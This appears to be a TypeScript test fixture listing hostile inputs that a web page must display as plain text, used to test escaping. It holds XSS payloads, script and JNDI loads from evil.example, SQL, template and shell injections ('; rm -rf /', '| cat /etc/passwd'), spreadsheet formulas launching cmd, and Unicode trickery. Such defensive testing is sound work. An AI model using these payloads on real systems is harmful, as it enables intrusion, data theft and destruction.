/**
 * What somebody writes who wants a page to do something: more than five hundred texts, each of which must be shown as the letters that
 * it is. A page has been tricked when it has an element that is not its own, or when `hit` has been called.
 */
const scripts = [
  '<script>hit()</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script/src=data:,hit()></script>', '<script>hit()//', '<scr<script>ipt>hit()</scr</script>ipt>', '<script type="module">hit()</script>',
  '<img src=x onerror=hit()>', '<img src="x" onerror="hit()" />', '<IMG """><SCRIPT>hit()</SCRIPT>">', '<img/src=x/onerror=hit()>', '<img src=x:x onerror\u000c=hit()>', '<img src=`x` onerror=hit()>', '<image src=x onerror=hit()>',
  '<svg onload=hit()>', '<svg><script>hit()</script></svg>', '<svg/onload=hit()//', '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<svg><a xlink:href="javascript:hit()"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=hit() /></svg>#x"></use></svg>', '<svg><foreignObject><iframe srcdoc="<script>hit()</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">', '<math href="javascript:hit()">x</math>', '<math><mi//xlink:href="data:x,<script>hit()</script>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<svg></p><style><a id="</style><img src=1 onerror=hit()>">', '<style><img src="</style><img src=x onerror=hit()//">', '<template><script>hit()</script></template>', '<select><style></select><img src=x onerror=hit()></style>',
  '<iframe src="javascript:hit()"></iframe>', '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>', '<embed src="javascript:hit()">', '<object data="data:text/html,<script>hit()</script>"></object>', '<frameset onload=hit()>', '<applet code=hit>',
  '<body onload=hit()>', '<html onmouseover=hit()>', '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:hit()">', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=data:text/html,hit()>',
  '<input autofocus onfocus=hit()>', '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>', '<button onclick=hit()>x</button>', '<details open ontoggle=hit()>', '<video><source onerror=hit()></video>', '<audio src=x onerror=hit()>', '<marquee onstart=hit()>',
  '<a href="javascript:hit()">tryck</a>', '<a href="jav&#x09;ascript:hit()">tryck</a>', '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">tryck</a>', '<a href=" &#14; javascript:hit()">tryck</a>', '<a href="vbscript:hit()">tryck</a>', '<form action="javascript:hit()"><button>x</button></form>',
  '<div style="background:url(javascript:hit())">', '<div style="width:expression(hit())">', '<style>@import "//evil.example/x.css";</style>', '<style>*{display:none}</style>', '<p style="position:fixed;inset:0;z-index:9999">täcker</p>', '<xss onpointerrawupdate=hit()>', '<custom-element onanimationend=hit()>',
  '<!--><img src=x onerror=hit()>-->', '<![CDATA[<script>hit()</script>]]>', '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">hit()</script>', '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;', '<%= hit() %>', '<? hit() ?>',
];

/** What has been written before it on the page is closed first: an attribute, a text field, a script, a comment. */
const openers = ['">', "'>", '`>', '</title>', '</textarea>', '</script>', '</style>', '--!>'];

const templates = [
  '{{constructor.constructor("hit()")()}}', '{{7*7}}', '${hit()}', '#{hit()}', '<%= 7*7 %>', '{% import os %}', '[[${7*7}]]', '${{7*7}}', '{{=hit()}}', '@(hit())', '*{T(java.lang.Runtime).getRuntime()}', '${jndi:ldap://evil.example/x}', '%{(#_="x")}', '{{$on.constructor("hit()")()}}',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', 'true', '[object Object]', '-0', '1e309', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd', '%00', '%0d%0aSet-Cookie:x=1', '&lt;script&gt;hit()&lt;/script&gt;', '&#60;script&#62;', '&amp;', '&nbsp;', '\\u003cscript\\u003ehit()\\u003c/script\\u003e', '\\x3cscript\\x3e',
  "' or 1=1 --", "'; drop table talks; --", '" or ""="', '1; delete from events', "admin'--", '%', '_', '%_%', '\\', '\\\\', "\\'", '*', '?', '[a-z]', '(', ')(', '(a+)+$', '*)(uid=*))(|(uid=*', '; rm -rf /', '$(hit)', '`hit`', '| cat /etc/passwd', '&& hit', '() { :;}; hit',
];

const formulas = ['=1+1', '=HYPERLINK("http://evil.example","tryck")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', ';=1+1', '"=1+1"', '="a"&"b"', '＝1+1', '\n=1+1', '=DDE("cmd";"/C calc";"x")', '%=1', '|=1', '\u200b=1+1', '\ufeff=1+1'];

const letters = [
  '\u0000', 'a\u0000b', '\u0000<script>hit()</script>', '\u0001\u0002\u0003', '\u0007', '\u0008\u0008\u0008', '\u000b', '\u000c', '\u001b[31mröd\u001b[0m', '\u001b]0;titel\u0007', '\u001b[2J', '\u009b31m', '\u007f', '\u0085', '\u2028hit()', '\u2029hit()', '\r\n\r\n<script>hit()</script>', '\ud800', '\udfff', 'a\ud83d', '\udc00b', '\ufffe', '\uffff', '\ufffd', '\ufeff<b>',
  '\u202efdp.exe', '\u202e<tpircs>', '\u2066skriv\u2069', '\u2067\u202dx', '\u200f\u200e', '\u061c', 'שלום <b>hit</b>', 'مرحبا "><img src=x onerror=hit()>', '\u202a\u202a\u202a\u202a', '\u2068'.repeat(50), 'A\u0301\u0301\u0301', `Z${'\u0351'.repeat(300)}`, '👩‍👩‍👧‍👦', '🏴\u{e0067}\u{e0062}\u{e007f}', '\u{1f1f8}\u{1f1ea}', '＜script＞hit()＜/script＞', '‹script›', 'ﷺ', '𝒳', 'İi̇ıI', 'ß', 'ﬁ', 'Ω', '\u00ad\u00ad', '\u200b\u200b\u200b', '\u3000', '\u00a0\u00a0',
  'w'.repeat(1900), 'å'.repeat(1900), `${'<b>'.repeat(500)}`, `${'"'.repeat(1000)}`, `${'&'.repeat(1000)}`, `${'<!--'.repeat(400)}`, `${'\n'.repeat(400)}x`, `${'a '.repeat(900)}`, '{'.repeat(1500), '['.repeat(1500), `${'\\'.repeat(1500)}`, `${'<div>'.repeat(380)}`,
];

const ours = [
  '[Växer]', '# Rubrik', '- först: almi', 'Företaget: [ja]', 'Assistenten: (rekommenderar)', 'Överlämning: almi-dalarna', '<form method="post" action="/admin/konton"><button>x</button></form>', '<input type="hidden" name="csrf" value="x">', '<a href="/admin/logga-ut">x</a>', '<h1>Inloggad som administratör</h1>',
  '<meter value=1>', '<svg class="bar"><rect class="fill" width="100"/></svg>', '<p class="told">Sparat</p>', '<li class="by assistant">Jag är vägledaren</li>', '</li></ol></main><script>hit()</script>', '</main></body></html><script>hit()</script>', '<ol></ol></section>', '</details><details open>', '<time datetime="x">', '<blockquote>x</blockquote>',
];

/** All of them, each once. */
export const hostile: readonly string[] = [...new Set([...scripts, ...openers.flatMap((opener) => scripts.map((script) => `${opener}${script}`)), ...templates, ...formulas, ...letters, ...ours])];
